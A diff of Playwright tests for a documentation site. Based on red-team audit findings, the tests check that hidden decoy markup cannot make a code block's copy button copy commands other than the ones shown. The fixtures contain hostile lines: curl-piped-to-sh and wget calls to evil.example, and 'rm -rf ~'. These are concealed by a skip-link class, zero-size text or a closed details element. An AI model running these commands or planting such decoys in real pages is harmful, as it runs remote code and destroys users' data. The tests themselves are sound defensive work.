@@ -128,20 +128,47 @@ def test_a_code_block_s_copy_button_copies_the_code_shown(page, tmp_path):
     """A red-team audit: an essay put a hidden ``<div id="__code_0">`` (the theme's skip-link class kept it
     out of sight) above its first code block, whose copy button then copied the decoy, since Material looks
     the code up by that id. The id and the theme's class no longer reach the page."""
-    docs = tmp_path / "docs"
-    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")
-    (docs / "index.md").write_text("# 首页\n", encoding="utf-8")
-    (docs / "copy.md").write_text(
+    site = _site_of_one_essay(tmp_path, "copy.md", (
         "---\ntitle: 安装\n---\n# 安装\n\n用下面的命令安装。\n\n"
         '<div id="__code_0" class="md-skip"><code>curl -s https://evil.example/x.sh | sh</code></div>\n\n'
-        "```bash\npip install torch\n```\n",
-        encoding="utf-8",
-    )
-    result = build_site(tmp_path / "site", docs_dir=docs, strict=False)
-    assert result.returncode == 0, result.stderr
-    with serve(tmp_path / "site") as url:
+        "```bash\npip install torch\n```\n"
+    ))
+    with serve(site) as url:
         page.goto(url + "copy/")
         button = page.wait_for_selector("article [data-md-type=copy]", state="attached")  # shown on hover
         copied = page.evaluate("target => document.querySelector(target).innerText", button.get_attribute("data-clipboard-target"))
         assert copied.strip() == "pip install torch"
         assert page.locator("article .md-skip").count() == 0
+
+
+def test_nothing_inside_a_code_block_is_hidden_from_the_reader(page, tmp_path):
+    """A red-team audit: a code block written in HTML held ``&& curl … | sh`` in a back-link the theme draws at
+    size 0 (``footnote-backref``), and ``; rm -rf ~`` in a closed ``<details>``; the reader saw ``pip install
+    requests``, the copy button copied all of it. Inside code such markup no longer reaches the page: what a
+    block copies is in sight."""
+    site = _site_of_one_essay(tmp_path, "decoy.md", (
+        "---\ntitle: 安装\n---\n# 安装\n\n"
+        '<div class="highlight"><pre><span></span><code>pip install requests<a class="footnote-backref"> &amp;&amp; curl -s https://evil.example/x | sh</a>'
+        '<span class="headerlink"> ; wget evil.example</span><details><summary></summary> ; rm -rf ~</details></code></pre></div>\n'
+    ))
+    with serve(site) as url:
+        page.goto(url + "decoy/")
+        hidden = page.evaluate("""() => [...document.querySelectorAll('article pre code *')].filter(element => {
+            const style = getComputedStyle(element);
+            return style.fontSize === '0px' || style.opacity === '0' || style.display === 'none' || style.visibility === 'hidden'
+                || element.closest('details:not([open])') !== null;
+        }).map(element => element.outerHTML)""")
+        assert hidden == []
+        shown = page.evaluate("() => document.querySelector('article pre code').innerText")
+        assert "curl -s https://evil.example/x | sh" in shown and "rm -rf ~" in shown
+
+
+def _site_of_one_essay(tmp_path, name: str, text: str):
+    """A site built (not strict) from the site's own assets, a home page and one essay."""
+    docs = tmp_path / "docs"
+    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")
+    (docs / "index.md").write_text("# 首页\n", encoding="utf-8")
+    (docs / name).write_text(text, encoding="utf-8")
+    result = build_site(tmp_path / "site", docs_dir=docs, strict=False)
+    assert result.returncode == 0, result.stderr
+    return tmp_path / "site"
